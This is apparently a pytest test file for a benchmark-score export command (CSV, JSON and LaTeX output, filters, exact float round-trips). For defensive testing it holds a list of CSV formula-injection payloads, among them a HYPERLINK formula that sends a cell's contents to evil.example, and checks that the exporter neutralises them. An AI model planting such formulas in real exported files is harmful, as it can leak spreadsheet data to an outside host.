"""`export scores` follows the export contract (CSV, JSON, LaTeX; filters; empty result)."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from elitr_core.cli.main import main
from elitr_core.export.formats import render
from elitr_core.vocab import SCORE_COLUMNS


def _export(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["export", *args]) == 0
    return capsys.readouterr().out


def test_scores_csv_contract(bundled_sqlite: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = _export(capsys, "scores", "--db", bundled_sqlite)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0].keys()) == SCORE_COLUMNS
    assert len(rows) == 7945
    assert {r["seed"] for r in rows} == {""}  # no seed recorded in the release files
    gold = [r for r in rows if r["evaluator"] == "gold-human"]
    assert len(gold) == 390 and {r["split"] for r in gold} == {"test2"}
    first = next(r for r in rows if r["evaluator"] == "silver-human"
                 and r["meeting"] == "meeting_en_test2_001" and r["question_id"] == "1"
                 and r["model"] == "LongAlpaca-7B")
    assert first["score"] == "6.8" and first["setting"] == "qa" and first["mode"] == "st"
    assert first["question_type"] == "what" and first["answer_position"] == "S"


def test_scores_filters_and_formats(bundled_sqlite: str, tmp_path: Path,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    text = _export(capsys, "scores", "--db", bundled_sqlite, "--split", "dev", "--setting",
                   "conv", "--mode", "mt", "--evaluator", "gpt-4", "--format", "json")
    records = json.loads(text)
    assert len(records) == 8 * 141
    assert {(r["split"], r["setting"], r["mode"]) for r in records} == {("dev", "conv", "mt")}
    assert records[0]["seed"] is None
    out = tmp_path / "t.tex"
    _export(capsys, "scores", "--db", bundled_sqlite, "--evaluator", "prometheus",
            "--model", "GPT-4", "--format", "latex", "--out", str(out))
    latex = out.read_text()
    assert latex.startswith("\\begin{table}") and "\\toprule" in latex
    assert latex.count("\\\\\n") == 130 + 1  # header + one row per GPT-4 test2 response
    assert "question\\_id" in latex


def test_empty_filter_gives_header_only(bundled_sqlite: str,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    text = _export(capsys, "scores", "--db", bundled_sqlite, "--model", "No-Such-Model")
    assert text == ",".join(SCORE_COLUMNS) + "\n"


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR"]


def test_csv_neutralises_formulas_in_text_cells_only() -> None:
    hostile = HOSTILE[:-1]  # a bare CR cannot sit unquoted in a CSV line: checked below
    frame = pd.DataFrame({"model": [*hostile, "plain", "a=b"],
                          "delta": [-0.5, -1e-9, 2.0, -3.0, 1.0, -7.25, 1.5],
                          "n": [-1, 2, 3, 4, 5, 7, 8]})
    rows = list(csv.reader(io.StringIO(render(frame, "csv"))))[1:]
    assert [r[0] for r in rows] == [f"'{text}" for text in hostile] + ["plain", "a=b"]
    assert [r[1] for r in rows] == ["-0.5", "-1e-09", "2", "-3", "1", "-7.25", "1.5"]
    assert rows[0][2] == "-1"
    assert render(pd.DataFrame({"m": [HOSTILE[-1]]}), "csv") == "m\n\"'\rCR\"\n"


@pytest.mark.parametrize("text", ["\uff1dSUM(A1)", "\ufe66SUM(A1)", "\uff0b1+2", "\ufe622",
                                  "\uff20SUM(A1)"])
def test_full_width_and_small_formula_starts_are_neutralised(text: str) -> None:
    """Issue 27 item 11: a spreadsheet reads ＝SUM(A1) (full-width equals) as =SUM(A1)."""
    rows = list(csv.reader(io.StringIO(render(pd.DataFrame({"model": [text]}), "csv"))))
    assert rows[1] == ["'" + text]


def test_csv_quotes_cells_with_line_breaks() -> None:
    texts = ["a\rb", "c\nd", "e\r\nf", 'say "hi"\r', "plain", "", "x,y", '"q"']
    frame = pd.DataFrame({"text": texts, "score": [0.5, None, 2.0, -1.0, 3.0, 4.0, 5.0, 6.0]})
    out = render(frame, "csv")
    assert out == ('text,score\n"a\rb",0.5\n"c\nd",\n"e\r\nf",2\n"say ""hi""\r",-1\n'
                   'plain,3\n,4\n"x,y",5\n"""q""",6\n')
    assert list(csv.reader(io.StringIO(out, newline=""))) == [
        ["text", "score"], *([t, v] for t, v in zip(
            texts, ["0.5", "", "2", "-1", "3", "4", "5", "6"], strict=True))]
    # the rows without a CR read as the same bytes as a frame that has none
    assert out.endswith(render(frame[4:], "csv").split("\n", 1)[1])


def test_json_keeps_full_float_precision() -> None:
    rng = np.random.default_rng(11)
    values = [*rng.random(50), *(10.0 ** rng.uniform(-12, -5, 50)), 0.1 + 0.2, 1 / 3, 5e-324]
    frame = pd.DataFrame({"p": values, "label": [f"x{i}" for i in range(len(values))]})
    frame.loc[3, "p"] = np.nan
    frame.loc[4, "p"] = np.inf
    back = json.loads(render(frame, "json"))
    assert back[3]["p"] is None and back[4]["p"] is None
    assert [r["p"] for i, r in enumerate(back) if i not in (3, 4)] == [
        v for i, v in enumerate(values) if i not in (3, 4)]  # exact equality


def test_a_hostile_model_name_is_escaped_in_the_scores_export(
    bundled_sqlite: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_hostile_model(bundled_sqlite, tmp_path)
    capsys.readouterr()
    text = _export(capsys, "scores", "--db", bundled_sqlite, "--model", HOSTILE[0])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["model"], r["score"]) for r in rows] == [("'" + HOSTILE[0], "7")]
    records = json.loads(_export(capsys, "scores", "--db", bundled_sqlite, "--model",
                                 HOSTILE[0], "--format", "json"))
    assert records[0]["model"] == HOSTILE[0]  # JSON carries the name as it is


def import_hostile_model(db_url: str, tmp_path: Path) -> None:
    """A response of a model named like a spreadsheet formula, scored 7 by gpt-4 (dev QA st)."""
    content = {"split": "dev", "meetings": [{"id": "meeting_en_dev_001", "questions": [{
        "id": "1", "question-type": "who", "answer-position": "S",
        "question": "Who were the participants of the meeting?", "groundtruth-answer": "x",
        "generated-responses": [{"model": HOSTILE[0], "generated-response": "text",
                                 "gpt-4-eval_score": 7}]}]}]}
    path = tmp_path / "elitr-bench-qa_dev_st_gpt-4-eval.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    assert main(["import", str(path), "--db", db_url]) == 0


def test_csv_floats_read_back_exactly() -> None:
    """Reference: ``float(text) == value`` for every float (Python's own parser), and the
    shortest such text: a whole number without ``.0``, otherwise ``repr``."""
    rng = np.random.default_rng(7)
    values = [*rng.normal(5, 3, 200), *(10.0 ** rng.uniform(-300, 300, 100)), 23 / 9, 0.1 + 0.2,
              5e-324, 1e16, 123456789.0, -0.0, 7.0, math.inf]
    frame = pd.DataFrame({"x": values})
    cells = [row[0] for row in csv.reader(io.StringIO(render(frame, "csv")))][1:]
    for value, cell in zip(values, cells, strict=True):
        assert float(cell) == value and repr(float(cell)) == repr(float(value))
        assert len(cell) <= len(repr(float(value)))
    assert cells[values.index(23 / 9)] == "2.5555555555555554"
    assert cells[-4:] == ["123456789", "-0", "7", "inf"]


def test_scores_export_import_export_is_byte_identical(
    small_sqlite: str, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``export scores`` -> ``import`` into a fresh database -> ``export scores``: the same
    bytes, and every score equal to the stored float (means of 9 annotators such as 23/9 were
    cut to 6 significant digits before)."""
    from tests import small_db

    awkward = [23 / 9, 1 / 3 + 5, 6.8, 2 / 7 + 1, 10 - 1e-12]
    base = pd.read_csv(io.StringIO(_export(capsys, "scores", "--db", small_sqlite,
                                           "--evaluator", "gpt-4")))
    rows = base.head(len(awkward)).assign(score=awkward, evaluator="mean-human")
    first = tmp_path / "first.csv"
    first.write_text(render(rows.astype({"seed": "Int64"}), "csv"), encoding="utf-8")
    assert main(["import", str(first), "--db", small_sqlite]) == 0
    capsys.readouterr()  # the import's report
    once = _export(capsys, "scores", "--db", small_sqlite)
    exported = tmp_path / "scores.csv"
    exported.write_text(once, encoding="utf-8")

    small_db.build(db_url, scores=False)
    assert main(["import", str(exported), "--db", db_url]) == 0
    capsys.readouterr()
    assert _export(capsys, "scores", "--db", db_url) == once
    back = pd.read_csv(io.StringIO(once), dtype={"score": str})
    cells = back.loc[back["evaluator"] == "mean-human", "score"]
    assert [float(c) for c in cells] == awkward  # exact equality
